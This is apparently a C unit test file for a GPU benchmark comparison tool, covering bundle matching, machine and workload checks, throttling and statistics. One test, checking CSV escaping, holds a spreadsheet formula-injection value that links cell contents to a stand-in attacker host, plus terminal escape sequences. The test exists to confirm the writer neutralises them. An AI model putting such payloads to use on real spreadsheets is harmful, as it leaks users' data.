/* What may be compared, what is said before it, and what does the whole table allow? */
#include "tests/unit/analysed_scratch.h"

#include <math.h>

#include "analyzers/arm_differences.h"
#include "analyzers/solutions/solution_rows.h"
#include "core/base/count_of.h"
#include "reports/compare_report.h"
#include "tests/unit/named_arms.h"

static void assert_near(double value, double expected, double tolerance)
{
    if (!(fabs(value - expected) <= tolerance))
        fail_msg("%.12g is not within %g of %.12g", value, tolerance, expected);
}

/* ---- bundles under comparison ---- */

struct trial {
    struct scratch scratch;
    struct bundle bundle;
    struct analysis analysis;
};

static const char usual_machine[] = "{\"gpu\": {\"name\": \"H\", \"uuid\": \"GPU-1\", \"compute_capability\": \"9.0\", "
                                    "\"sm_count\": 132}, \"driver\": {\"version\": \"580\"}}";

static void trial_begin(struct trial *t, const char *manifest)
{
    scratch_create(&t->scratch);
    json_t *members = json_loads(manifest, 0, NULL);
    assert_non_null(members);
    json_object_update(t->scratch.manifest, members);
    json_decref(members);
}

static void trial_judge(struct trial *t)
{
    scratch_analyse(&t->scratch, &t->bundle, &t->analysis);
}

static void trial_end(struct trial *t)
{
    scratch_remove_analysed(&t->scratch, &t->bundle, &t->analysis);
}

/* One block of one sample. */
static void add_sample(struct trial *t, const char *variant, const char *config, const char *cache, int process,
                       int block, double clock_hz, double duration_ns, const char *throttled)
{
    char row[512];
    snprintf(row, sizeof row, "%s|%s|%d|%d|0|0|%s|1|%.17g|%.17g|%s", variant, config, process, block, cache, clock_hz,
             duration_ns, throttled);
    scratch_row(&t->scratch, BUNDLE_TIMING, row);
}

static void add_second_sample(struct trial *t, const char *variant, int process, int block, double duration_ns,
                              const char *throttled)
{
    char row[256];
    snprintf(row, sizeof row, "%s|mission|%d|%d|0|1|hot|1|1.5e9|%.17g|%s", variant, process, block, duration_ns,
             throttled);
    scratch_row(&t->scratch, BUNDLE_TIMING, row);
}

/* Five processes that spread by 0.1% and less. */
static void add_arm(struct trial *t, const char *variant, const char *config, double duration_ns)
{
    static const double spread[] = {0, 0.0004, -0.0005, 0.0007, -0.0003};
    for (int i = 0; i < 5; i++)
        add_sample(t, variant, config, "hot", i, 0, 1.5e9, duration_ns * (1 + spread[i]), "no");
}

/* A bundle of f/a at 1000 ns and f/b at `b_ns`, without a baseline in it. */
static void begin_two_arms(struct trial *t, const char *manifest, double b_ns)
{
    trial_begin(t, manifest);
    scratch_row(&t->scratch, BUNDLE_VARIANTS, "f/a|mission||k|||2e6|4000|ready");
    scratch_row(&t->scratch, BUNDLE_VARIANTS, "f/b|mission||k|||2e6|4000|ready");
    add_arm(t, "f/a", "mission", 1000);
    add_arm(t, "f/b", "mission", b_ns);
}

struct match {
    struct trial base, cand;
    struct analysis between;
};

static int match_judge(struct match *m, const char *across, struct err *e)
{
    trial_judge(&m->base);
    trial_judge(&m->cand);
    analysis_init(&m->between, &m->cand.bundle);
    return compare_bundles(&m->between, &m->base.analysis, &m->cand.analysis, across, e);
}

static void match_end(struct match *m)
{
    analysis_release(&m->between);
    trial_end(&m->base);
    trial_end(&m->cand);
}

static const struct comparison *row_of(const struct analysis *a, const char *candidate)
{
    for (size_t i = 0; i < a->comparisons.count; i++)
        if (!strcmp(a->comparisons.items[i].candidate, candidate))
            return &a->comparisons.items[i];
    fail_msg("no comparison of %s", candidate);
    return NULL;
}

static void expect_row(const struct comparison *c, enum comparison_verdict verdict, const char *reason)
{
    if (c->verdict != verdict || strcmp(comparison_reasons[c->reason].key, reason))
        fail_msg("%s: %s, %s: %s", c->candidate, comparison_verdict_name(c->verdict), comparison_reasons[c->reason].key,
                 c->detail);
}

/* ---- two bundles ---- */

/* f/a is what it was, f/b takes 900 instead of 1000 ns. Process 0 of one bundle is
 * not process 0 of the other: the groups are independent. */
static void variants_join_by_name(void **state)
{
    (void)state;
    struct match m;
    begin_two_arms(&m.base, usual_machine, 1000);
    begin_two_arms(&m.cand, usual_machine, 900);
    scratch_row(&m.cand.scratch, BUNDLE_VARIANTS, "f/new|mission||k|||||ready");
    MUST(match_judge(&m, NULL, &e));
    assert_int_equal(m.between.comparisons.count, 2);
    expect_row(row_of(&m.between, "f/a"), COMPARE_EQUIVALENT, "interval_within_margin");
    const struct comparison *b = row_of(&m.between, "f/b");
    expect_row(b, COMPARE_FASTER, "interval_below_margin");
    assert_string_equal(b->baseline, "f/b");
    assert_near(b->ratio, 0.9, 1e-12);
    assert_false(b->paired);
    assert_int_equal(b->n_processes, 5);
    assert_true(b->mde > 0.01 && b->mde < 0.02 && b->p_value < 0.05 && b->p_holm < 0.05);
    assert_int_equal(comparisons_status(&m.between, &m.between, &m.between), EXIT_PASS);
    assert_int_equal(m.between.findings.count, 1);
    assert_string_equal(m.between.findings.items[0].id, "only-in-candidate");
    match_end(&m);
}

static void one_variant_each_joins_by_shape(void **state)
{
    (void)state;
    static const struct {
        const char *config;
        enum comparison_verdict verdict;
        const char *reason;
    } cases[] = {{"mission", COMPARE_SLOWER, "interval_above_margin"}, {"large", COMPARE_UNUSABLE, "shapes_differ"}};
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        struct match m;
        char row[64];
        trial_begin(&m.base, usual_machine);
        trial_begin(&m.cand, usual_machine);
        scratch_row(&m.base.scratch, BUNDLE_VARIANTS, "f/old|mission||k|||||ready");
        snprintf(row, sizeof row, "g/new|%s||k|||||ready", cases[i].config);
        scratch_row(&m.cand.scratch, BUNDLE_VARIANTS, row);
        add_arm(&m.base, "f/old", "mission", 1000);
        add_arm(&m.cand, "g/new", cases[i].config, 1100);
        MUST(match_judge(&m, NULL, &e));
        assert_int_equal(m.between.comparisons.count, 1);
        expect_row(&m.between.comparisons.items[0], cases[i].verdict, cases[i].reason);
        match_end(&m);
    }
}

/* A variant that is gone is no pass. */
static void a_variant_that_is_gone_is_inconclusive(void **state)
{
    (void)state;
    struct match m;
    begin_two_arms(&m.base, usual_machine, 1000);
    trial_begin(&m.cand, usual_machine);
    scratch_row(&m.cand.scratch, BUNDLE_VARIANTS, "f/a|mission||k|||2e6|4000|ready");
    add_arm(&m.cand, "f/a", "mission", 1001);
    MUST(match_judge(&m, NULL, &e));
    expect_row(row_of(&m.between, "f/b"), COMPARE_INCONCLUSIVE, "not_in_candidate");
    assert_int_equal(comparisons_status(&m.between, &m.between, &m.between), EXIT_INCONCLUSIVE);
    match_end(&m);
}

static void bundles_without_anything_in_common(void **state)
{
    (void)state;
    struct match m;
    struct err e = {0};
    begin_two_arms(&m.base, usual_machine, 1000);
    trial_begin(&m.cand, usual_machine);
    scratch_row(&m.cand.scratch, BUNDLE_VARIANTS, "g/a|mission||k|||||ready");
    assert_int_equal(match_judge(&m, NULL, &e), ERR_INPUT);
    assert_non_null(strstr(e.text, "no variant in common"));
    match_end(&m);
}

#define MACHINE(gpu, uuid, driver, more)                                                                               \
    "{\"gpu\": {\"name\": \"" gpu "\", \"uuid\": \"" uuid "\", \"compute_capability\": \"9.0\", \"sm_count\": 132}, "  \
    "\"driver\": {\"version\": \"" driver "\"}" more "}"
#define STATE(member, value)                                                                                           \
    ", \"processes\": [{\"role\": \"trace\", \"clocks\": {\"before\": {\"" member "\": 1}}}, "                         \
    "{\"role\": \"time\", \"clocks\": {\"before\": {\"" member "\": " #value "}, \"after\": {\"" member "\": " #value  \
    "}}}]"

/* The candidate is 10% faster in each. */
static void machines_are_said_before_any_ratio(void **state)
{
    (void)state;
    static const struct {
        const char *base, *cand, *across;
        enum comparison_verdict verdict;
        const char *reason, *detail;
    } cases[] = {
        {MACHINE("H", "1", "580", ""), MACHINE("H", "1", "580", ""), NULL, COMPARE_FASTER, "interval_below_margin", ""},
        {MACHINE("H", "1", "580", ""), MACHINE("L", "2", "580", ""), NULL, COMPARE_UNUSABLE, "device_differs",
         "baseline: H (compute capability 9.0, 132 SMs); candidate: L"},
        {MACHINE("H", "1", "580", ""), MACHINE("L", "2", "580", ""), "power,device", COMPARE_FASTER,
         "interval_below_margin", ""},
        {MACHINE("H", "1", "580", ""), MACHINE("H", "2", "580", ""), NULL, COMPARE_INCONCLUSIVE, "board_differs", "1"},
        {MACHINE("H", "1", "580", ""), MACHINE("H", "1", "590", ""), NULL, COMPARE_UNUSABLE, "driver_differs",
         "baseline: driver 580; candidate: driver 590"},
        {MACHINE("H", "1", "580", ""), MACHINE("H", "1", "590", ""), "driver", COMPARE_FASTER, "interval_below_margin",
         ""},
        {MACHINE("H", "1", "580", STATE("memory_clock_mhz", 3201)),
         MACHINE("H", "1", "580", STATE("memory_clock_mhz", 2619)), NULL, COMPARE_UNUSABLE, "clocks_differ",
         "2619 MHz"},
        {MACHINE("H", "1", "580", STATE("power_limit_mw", 700000)),
         MACHINE("H", "1", "580", STATE("power_limit_mw", 500000)), NULL, COMPARE_UNUSABLE, "power_limit_differs",
         "baseline: 700 W power limit; candidate: 500 W"},
        {MACHINE("H", "1", "580", ""), MACHINE("H", "1", "580", ", \"timing_source\": \"records\""), NULL,
         COMPARE_UNUSABLE, "mixed_timing", "baseline: CUDA events; candidate: records"},
        {MACHINE("H", "1", "580", ""), "{}", NULL, COMPARE_INCONCLUSIVE, "device_unknown", "the candidate"},
        {"{}", "{}", NULL, COMPARE_INCONCLUSIVE, "device_unknown", "neither bundle"},
    };
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        struct match m;
        begin_two_arms(&m.base, cases[i].base, 1000);
        begin_two_arms(&m.cand, cases[i].cand, 900);
        MUST(match_judge(&m, cases[i].across, &e));
        const struct comparison *c = row_of(&m.between, "f/b");
        expect_row(c, cases[i].verdict, cases[i].reason);
        if (!strstr(c->detail, cases[i].detail))
            fail_msg("case %zu: '%s'", i, c->detail);
        assert_true(isnan(c->ratio) == (c->verdict == COMPARE_UNUSABLE));
        const bool said = c->verdict != COMPARE_FASTER || cases[i].across;
        assert_int_equal(m.between.findings.count > 0, said);
        match_end(&m);
    }
}

static void names_of_across(void **state)
{
    (void)state;
    struct err why = {0};
    MUST(arm_differences_check_across(NULL, &e));
    MUST(arm_differences_check_across("device,driver,board,clocks,power", &e));
    assert_int_equal(arm_differences_check_across("device,drivers", &why), ERR_USAGE);
    assert_int_equal(arm_differences_check_across("", &why), ERR_USAGE);
}

/* 4000 bytes a call became 8000, 9 values of the result 18: another problem. */
static void work_is_said_before_any_ratio(void **state)
{
    (void)state;
    static const struct {
        const char *base, *cand; /* bytes a call and values of the result of the two */
        const char *base_values, *cand_values;
        const char *detail; /* NULL: the ratio stands */
    } cases[] = {
        {"4000", "4000", "9", "9", NULL},
        {"4000", "8000", "9", "9", "bytes per call: baseline 3.91 KiB, candidate 7.81 KiB"},
        {"4000", "4000", "9", "18", "values of the result: baseline 9, candidate 18"},
        {"", "8000", "", "18", NULL}, /* what one does not state is not known to differ */
    };
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        struct match m;
        struct trial *trials[] = {&m.base, &m.cand};
        const char *bytes[] = {cases[i].base, cases[i].cand}, *values[] = {cases[i].base_values, cases[i].cand_values};
        for (size_t k = 0; k < 2; k++) {
            char row[128];
            trial_begin(trials[k], usual_machine);
            snprintf(row, sizeof row, "f/a|mission||k|||2e6|%s|ready", bytes[k]);
            scratch_row(&trials[k]->scratch, BUNDLE_VARIANTS, row);
            snprintf(row, sizeof row, "f/a|mission|0|0|all|0|0|%s|h||yes|", values[k]);
            scratch_row(&trials[k]->scratch, BUNDLE_VERIFY, row);
            add_arm(trials[k], "f/a", "mission", 1000 - 100.0 * (double)k);
        }
        MUST(match_judge(&m, NULL, &e));
        const struct comparison *c = row_of(&m.between, "f/a");
        expect_row(c, cases[i].detail ? COMPARE_UNUSABLE : COMPARE_FASTER,
                   cases[i].detail ? "work_differs" : "interval_below_margin");
        if (cases[i].detail && !strstr(c->detail, cases[i].detail))
            fail_msg("'%s'", c->detail);
        match_end(&m);
    }
}

/* Two variants of one family may need other work for the same result: said, and compared. */
static void other_work_of_another_variant_is_only_said(void **state)
{
    (void)state;
    struct trial t;
    trial_begin(&t, "{}");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/a|mission||k|||2e6|4000|ready");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/b|mission|f/a|k|||3e6|4000|ready");
    add_arm(&t, "f/a", "mission", 1000);
    add_arm(&t, "f/b", "mission", 900);
    trial_judge(&t);
    expect_row(&t.analysis.comparisons.items[0], COMPARE_FASTER, "interval_below_margin");
    assert_string_equal(t.analysis.findings.items[0].id, "work-differs");
    assert_non_null(
        strstr(t.analysis.findings.items[0].claim, "operations per call: baseline 2,000,000, candidate 3,000,000"));
    trial_end(&t);
}

/* As ranks that share a GPU say nothing of links: no ratio, and so no average and no line over sizes either. */
static void times_that_say_nothing_are_no_verdict(void **state)
{
    (void)state;
    static const char *const declared[] = {"", "all 2 ranks share one GPU"};
    for (size_t i = 0; i < 4; i++) { /* neither arm declares it, the candidate, the baseline, both */
        struct trial t;
        char row[256];
        trial_begin(&t, "{}");
        for (int size = 1; size <= 2; size++) {
            snprintf(row, sizeof row, "f/a|n=%d||k|||2e6|%d|ready||||||%s", size * 1000, size * 1000, declared[i / 2]);
            scratch_row(&t.scratch, BUNDLE_VARIANTS, row);
            snprintf(row, sizeof row, "f/b|n=%d|f/a|k|||2e6|%d|ready||||||%s", size * 1000, size * 1000,
                     declared[i % 2]);
            scratch_row(&t.scratch, BUNDLE_VARIANTS, row);
            snprintf(row, sizeof row, "n=%d", size * 1000);
            add_arm(&t, "f/a", row, 1000 * size);
            add_arm(&t, "f/b", row, 900 * size);
        }
        trial_judge(&t);
        assert_int_equal(t.analysis.comparisons.count, 2);
        for (size_t c = 0; c < 2; c++) {
            const struct comparison *row_of = &t.analysis.comparisons.items[c];
            if (!i) {
                expect_row(row_of, COMPARE_FASTER, "interval_below_margin");
                continue;
            }
            expect_row(row_of, COMPARE_INCONCLUSIVE, "times_say_nothing");
            assert_non_null(strstr(row_of->detail, "(all 2 ranks share one GPU)"));
            assert_true(isnan(row_of->ratio));
        }
        for (size_t s = 0; s < t.analysis.sweeps.count; s++)
            assert_true(!i || !t.analysis.sweeps.items[s].averaged);
        trial_end(&t);
    }
}

/* The kernel did not change: a difference in time is not its own, the absence of one is shown. */
static void unchanged_code_is_not_slower(void **state)
{
    (void)state;
    static const struct {
        double b_ns;
        enum comparison_verdict verdict;
        const char *reason;
    } cases[] = {{1100, COMPARE_INCONCLUSIVE, "identical_code"}, {1001, COMPARE_EQUIVALENT, "interval_within_margin"}};
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        struct match m;
        begin_two_arms(&m.base, usual_machine, 1000);
        begin_two_arms(&m.cand, usual_machine, cases[i].b_ns);
        scratch_row(&m.base.scratch, BUNDLE_RESOURCES, "f/b|mission|k|132|256|32|0|0|0|8|1|1|feed|1024");
        scratch_row(&m.cand.scratch, BUNDLE_RESOURCES, "f/b|mission|k|132|256|32|0|0|0|8|1|1|feed|1024");
        MUST(match_judge(&m, NULL, &e));
        expect_row(row_of(&m.between, "f/b"), cases[i].verdict, cases[i].reason);
        match_end(&m);
    }
}

static void a_recording_is_not_compared_with_itself(void **state)
{
    (void)state;
    struct match m;
    begin_two_arms(&m.base, usual_machine, 1000);
    begin_two_arms(&m.cand, usual_machine, 1000); /* the same rows: the same bytes */
    MUST(match_judge(&m, NULL, &e));
    expect_row(row_of(&m.between, "f/a"), COMPARE_UNUSABLE, "same_recording");
    match_end(&m);
}

/* A check that failed, decided nothing, or is not there proves nothing; one of a config that is only verified counts
 * too. */
static void proof_needs_every_check(void **state)
{
    (void)state;
    static const struct {
        int selection, here, ragged; /* enum verdict_status; -1: no such row */
        bool is_proven;
    } cases[] = {
        {VERDICT_PASS, VERDICT_PASS, VERDICT_PASS, true},
        {VERDICT_PASS, VERDICT_PASS, -1, true},
        {VERDICT_INCONCLUSIVE, VERDICT_PASS, VERDICT_PASS, false},
        {VERDICT_FAIL, VERDICT_PASS, VERDICT_PASS, false},
        {-1, VERDICT_PASS, VERDICT_PASS, false},
        {VERDICT_PASS, VERDICT_INCONCLUSIVE, VERDICT_PASS, false},
        {VERDICT_PASS, -1, VERDICT_PASS, false},
        {VERDICT_PASS, VERDICT_PASS, VERDICT_INCONCLUSIVE, false},
    };
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        struct bundle bundle;
        struct analysis a;
        bundle_init(&bundle);
        for (size_t k = 0; k < 2; k++) {
            struct table *t = &bundle.tables[BUNDLE_VERIFY];
            struct cell *row = table_add_row(t);
            assert_non_null(row);
            row[VERIFY_VARIANT] = cell_text(t, "f/a");
            row[VERIFY_SHAPE] = cell_text(t, k ? "ragged" : "s");
        }
        analysis_init(&a, &bundle);
        MUST(analysis_join(&a, &e));
        if (cases[i].selection >= 0)
            *ARRAY_PUSH(&a.selection) = (struct selection_check){
                .variant = "f/a", .config = "s", .status = (enum verdict_status)cases[i].selection};
        if (cases[i].here >= 0)
            *ARRAY_PUSH(&a.correctness) =
                (struct correctness){.variant = "f/a", .config = "s", .status = (enum verdict_status)cases[i].here};
        if (cases[i].ragged >= 0)
            *ARRAY_PUSH(&a.correctness) = (struct correctness){
                .variant = "f/a", .config = "ragged", .status = (enum verdict_status)cases[i].ragged};
        name_arms(&a);
        const bool is_proven = analysis_is_proven(&a, analysis_arm(&a, "f/a", "s"));
        analysis_release(&a);
        bundle_release(&bundle);
        if (is_proven != cases[i].is_proven)
            fail_msg("case %zu", i);
    }
}

/* ---- rows of one bundle ---- */

/* 10% faster with hot caches, 0.1% with cold ones. */
static void hot_and_cold_are_rows_of_their_own(void **state)
{
    (void)state;
    struct trial t;
    trial_begin(&t, "{}");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/a|mission||k||||||");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/b|mission|f/a|k||||||");
    for (int process = 0; process < 5; process++) {
        add_sample(&t, "f/a", "mission", "cold", process, 0, 1.5e9, 2000 + process, "");
        add_sample(&t, "f/b", "mission", "cold", process, 0, 1.5e9, 1998 + process, "");
        add_sample(&t, "f/a", "mission", "hot", process, 0, 1.5e9, 1000 + process, "");
        add_sample(&t, "f/b", "mission", "hot", process, 0, 1.5e9, 900 + process, "");
    }
    trial_judge(&t);
    assert_int_equal(t.analysis.comparisons.count, 2);
    const struct comparison *hot = &t.analysis.comparisons.items[0], *cold = hot + 1;
    assert_string_equal(hot->cache, "hot");
    expect_row(hot, COMPARE_FASTER, "interval_below_margin");
    assert_string_equal(cold->cache, "cold");
    expect_row(cold, COMPARE_EQUIVALENT, "interval_within_margin");
    assert_near(cold->baseline_ns, pow(2000.0 * 2001 * 2002 * 2003 * 2004, 0.2), 1e-9);
    assert_int_equal(t.analysis.timings.count, 4);
    trial_end(&t);
}

/* Block 1 of each process takes twice the time because the GPU throttled: without
 * it f/b is 10% faster. An arm with nothing else has nothing to compare. */
static void throttled_blocks_are_discarded_and_counted(void **state)
{
    (void)state;
    struct trial t;
    trial_begin(&t, "{}");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/a|mission||k||||||");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/b|mission|f/a|k||||||");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/c|mission|f/a|k||||||");
    for (int process = 0; process < 5; process++) {
        add_sample(&t, "f/a", "mission", "hot", process, 0, 1.5e9, 1000 + process, "no");
        add_sample(&t, "f/b", "mission", "hot", process, 0, 1.5e9, 900 + process, "no");
        add_sample(&t, "f/b", "mission", "hot", process, 1, 1.5e9, 2000, "yes");
        add_second_sample(&t, "f/b", process, 1, 2001, "yes");
        add_sample(&t, "f/c", "mission", "hot", process, 0, 1.5e9, 2000, "yes");
    }
    trial_judge(&t);
    const struct comparison *b = row_of(&t.analysis, "f/b"), *c = row_of(&t.analysis, "f/c");
    expect_row(b, COMPARE_FASTER, "interval_below_margin");
    assert_int_equal(b->cand.discarded_blocks, 5); /* one of each process, of two samples */
    assert_int_equal(b->base.discarded_blocks, 0);
    assert_int_equal(b->n_samples, 10);
    expect_row(c, COMPARE_INCONCLUSIVE, "throttled");
    assert_int_equal(t.analysis.timings.count, 2);
    const struct finding *said = t.analysis.findings.items;
    assert_string_equal(said[0].id, "throttled-blocks");
    assert_string_equal(said[0].variant, "f/b");
    assert_string_equal(said[0].claim, "5 blocks were discarded, as the GPU slowed itself down in them");
    assert_string_equal(said[1].variant, "f/c");
    assert_non_null(strstr(said[1].claim, ": none is left"));
    trial_end(&t);
}

/* Each process has its own clock, both arms within one the same: 10% less time is
 * 10% fewer cycles, though the mean clocks of the arms would say otherwise if the
 * samples were not weighed by their own. f/b has three samples a process where the
 * clock is high and one where it is low: means 1.5 and 1.65 GHz. */
static void cycles_are_counted_by_each_block_s_clock(void **state)
{
    (void)state;
    struct trial t;
    trial_begin(&t, "{}");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/a|mission||k||||||");
    scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/b|mission|f/a|k||||||");
    for (int process = 0; process < 6; process++) {
        const double clock_hz = process % 2 ? 1.2e9 : 1.8e9, ns = 1.8e12 / clock_hz;
        add_sample(&t, "f/a", "mission", "hot", process, 0, clock_hz, ns, "");
        for (int i = 0; i < (process % 2 ? 1 : 3); i++)
            add_sample(&t, "f/b", "mission", "hot", process, i, clock_hz, 0.9 * ns, "");
    }
    trial_judge(&t);
    const struct comparison *c = &t.analysis.comparisons.items[0];
    expect_row(c, COMPARE_FASTER, "interval_below_margin");
    assert_near(c->clock_ratio, 1.1, 1e-12);
    assert_near(c->cycles_ratio, 0.9, 1e-12);
    trial_end(&t);
}

/* Ten candidates of which one is just beyond the margin on its own: log ratios
 * -0.04 + {-2, -1, 0, 1, 2} * 0.008 have s = 0.01265, t(0.975, 4) s / sqrt(5) =
 * 0.0157, so the interval ends at exp(-0.04 + 0.016) = 0.976 < 0.99. Its
 * p is 2 P(T > (0.04 - 0.01005) / 0.00566 = 5.29) = 0.0061, ten times that is 0.061. */
static void a_row_must_hold_for_the_table(void **state)
{
    (void)state;
    for (int candidates = 1; candidates <= 10; candidates += 9) {
        struct trial t;
        trial_begin(&t, "{}");
        scratch_row(&t.scratch, BUNDLE_VARIANTS, "f/a|mission||k||||||");
        for (int v = 0; v < candidates; v++) {
            char name[16], row[64];
            snprintf(name, sizeof name, "f/%d", v);
            snprintf(row, sizeof row, "%s|mission|f/a|k||||||", name);
            scratch_row(&t.scratch, BUNDLE_VARIANTS, row);
            for (int i = 0; i < 5; i++)
                add_sample(&t, name, "mission", "hot", i, 0, 1.5e9, 1000 * exp((v ? 0 : -0.04) + 0.008 * (i - 2)), "");
        }
        for (int i = 0; i < 5; i++)
            add_sample(&t, "f/a", "mission", "hot", i, 0, 1.5e9, 1000, "");
        trial_judge(&t);
        const struct comparison *c = row_of(&t.analysis, "f/0");
        assert_near(c->p_value, 0.0061, 0.0002);
        assert_near(c->p_holm, c->p_value * candidates, 1e-12);
        assert_int_equal(c->alone, COMPARE_FASTER);
        expect_row(c, candidates == 1 ? COMPARE_FASTER : COMPARE_INCONCLUSIVE,
                   candidates == 1 ? "interval_below_margin" : "holm");
        trial_end(&t);
    }
}

/* ---- what is written ---- */

static void every_reason_is_in_the_docs(void **state)
{
    (void)state;
    struct str page;
    str_init(&page);
    MUST(files_read(SOURCE_DIRECTORY "/docs/statistics.md", 256 * 1024, &page, &e));
    static const struct reason reasons[] = {COMPARISON_REASONS(REASON_ROW)};
    for (size_t i = 0; i < COUNT_OF(reasons); i++) {
        char code[64];
        snprintf(code, sizeof code, "`%s`", reasons[i].key);
        if (!strstr(str_text(&page), code))
            fail_msg("docs/statistics.md does not have %s", code);
        assert_true(reasons[i].sentence[0] != '\0');
    }
    str_release(&page);
}

static void two_bundles_as_json_and_csv(void **state)
{
    (void)state;
    struct match m;
    begin_two_arms(&m.base, usual_machine, 1000);
    begin_two_arms(&m.cand, usual_machine, 900);
    MUST(match_judge(&m, NULL, &e));
    const struct compare_report r = {&m.between, {{"old", &m.base.analysis}, {"new", &m.cand.analysis}}, 2};
    json_t *out = json_compare_report(&r);
    assert_string_equal(json_get_text(out, "schema", ""), "cpprof.compare/1");
    assert_string_equal(json_get_text(out, "baseline_bundle", ""), "old");
    assert_int_equal(json_array_size(json_object_get(out, "gates")), 8); /* 2 bundles, 2 variants, 2 questions */
    const json_t *row = json_array_get(json_object_get(out, "rows"), 1);
    assert_string_equal(json_get_text(row, "verdict_alone", ""), "faster");
    const double baseline_ns = json_get_number(row, "baseline_ns", 0);
    assert_near(baseline_ns, 1000.06, 0.01); /* the spread has a mean of 0.00006 */
    assert_near(json_get_number(row, "baseline_bytes_per_s", 0), 4000e9 / baseline_ns, 1);
    json_decref(out);
    struct str csv;
    str_init(&csv);
    MUST(csv_compare(&r, &csv, &e));
    size_t lines = 0;
    for (const char *at = str_text(&csv); (at = strchr(at, '\n')); at++)
        lines++;
    assert_int_equal(lines, 3); /* header, f/a, f/b */
    static const char row_start[] = "\nf/b,f/b,mission,hot,";
    const char *second = strstr(str_text(&csv), row_start);
    assert_non_null(second);
    assert_near(strtod(second + strlen(row_start), NULL), 0.9, 1e-12);
    str_release(&csv);
    match_end(&m);
}

/* A spreadsheet calculates what begins so, a terminal obeys the rest. */
static void names_are_inert_as_csv(void **state)
{
    (void)state;
    struct comparison c = {.baseline = "=HYPERLINK(\"http://evil.example/\"&A1,\"ok\")",
                           .candidate = "\x1b]0;x\x07y",
                           .config = " @SUM(1)",
                           .cache = "hot",
                           .reason = COMPARISON_INTERVAL_BELOW_MARGIN,
                           .detail = "-1+1"};
    struct analysis a = {.comparisons = {&c, 1, 1}};
    const struct compare_report r = {.verdicts = &a};
    struct str csv;
    str_init(&csv);
    MUST(csv_compare(&r, &csv, &e));
    assert_non_null(
        strstr(str_text(&csv),
               "\n\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"ok\"\")\",\\x1b]0;x\\x07y,' @SUM(1),hot,"));
    assert_non_null(strstr(str_text(&csv), ",'-1+1,"));
    assert_null(strpbrk(str_text(&csv), "\x1b\x07"));
    str_release(&csv);
}

/* Builds with marks are 25% slower, of one bundle and of two: what marks cost, no result. f/b wins alone. */
static void builds_with_marks_are_no_results(void **state)
{
    (void)state;
    static const char *const marked[] = {"f/a+record", "f/a+progress", "f/a+delay-0.1-400", "f/a+without-copy"};
    struct match m;
    struct trial *const sides[] = {&m.base, &m.cand};
    for (size_t i = 0; i < COUNT_OF(sides); i++) {
        trial_begin(sides[i], usual_machine);
        scratch_row(&sides[i]->scratch, BUNDLE_VARIANTS, "f/a|mission||k|||2e6|4000|ready");
        add_arm(sides[i], "f/a", "mission", 1000);
        scratch_row(&sides[i]->scratch, BUNDLE_VARIANTS, "f/b|mission|f/a|k|||2e6|4000|ready");
        add_arm(sides[i], "f/b", "mission", 900);
        for (size_t k = 0; k < COUNT_OF(marked); k++) {
            char row[128];
            snprintf(row, sizeof row, "%s|mission|f/a|k|||2e6|4000|ready", marked[k]);
            scratch_row(&sides[i]->scratch, BUNDLE_VARIANTS, row);
            add_arm(sides[i], marked[k], "mission", i ? 2500 : 1250);
        }
    }
    MUST(match_judge(&m, "", &e));
    const struct analysis *a = &m.base.analysis;
    assert_int_equal(a->comparisons.count, 1);
    expect_row(row_of(a, "f/b"), COMPARE_FASTER, "interval_below_margin");
    assert_near(row_of(a, "f/b")->p_holm, row_of(a, "f/b")->p_value, 0); /* one test, not three */
    assert_int_equal(analysis_rows(a, ARM_COMPARISONS, analysis_arm(a, "f/a+record", "mission")).count, 0);
    assert_int_equal(comparisons_status(a, a, a), EXIT_PASS);
    assert_int_equal(a->mark_costs.count, 2); /* delays have rows of their own, and partial builds none */
    assert_string_equal(a->mark_costs.items[0].candidate, "f/a+record");
    assert_near(a->mark_costs.items[0].ratio, 1.25, 1e-9);
    assert_string_equal(a->mark_costs.items[1].candidate, "f/a+progress");
    assert_int_equal(m.between.comparisons.count, 2); /* f/a and f/b, both as fast as before */
    assert_int_equal(m.between.mark_costs.count, 0);
    assert_int_equal(comparisons_status(&m.between, &m.between, &m.between), EXIT_PASS);
    match_end(&m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(builds_with_marks_are_no_results),
        cmocka_unit_test(variants_join_by_name),
        cmocka_unit_test(one_variant_each_joins_by_shape),
        cmocka_unit_test(a_variant_that_is_gone_is_inconclusive),
        cmocka_unit_test(bundles_without_anything_in_common),
        cmocka_unit_test(machines_are_said_before_any_ratio),
        cmocka_unit_test(names_of_across),
        cmocka_unit_test(work_is_said_before_any_ratio),
        cmocka_unit_test(other_work_of_another_variant_is_only_said),
        cmocka_unit_test(times_that_say_nothing_are_no_verdict),
        cmocka_unit_test(unchanged_code_is_not_slower),
        cmocka_unit_test(a_recording_is_not_compared_with_itself),
        cmocka_unit_test(hot_and_cold_are_rows_of_their_own),
        cmocka_unit_test(throttled_blocks_are_discarded_and_counted),
        cmocka_unit_test(cycles_are_counted_by_each_block_s_clock),
        cmocka_unit_test(a_row_must_hold_for_the_table),
        cmocka_unit_test(every_reason_is_in_the_docs),
        cmocka_unit_test(two_bundles_as_json_and_csv),
        cmocka_unit_test(names_are_inert_as_csv),
        cmocka_unit_test(proof_needs_every_check),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
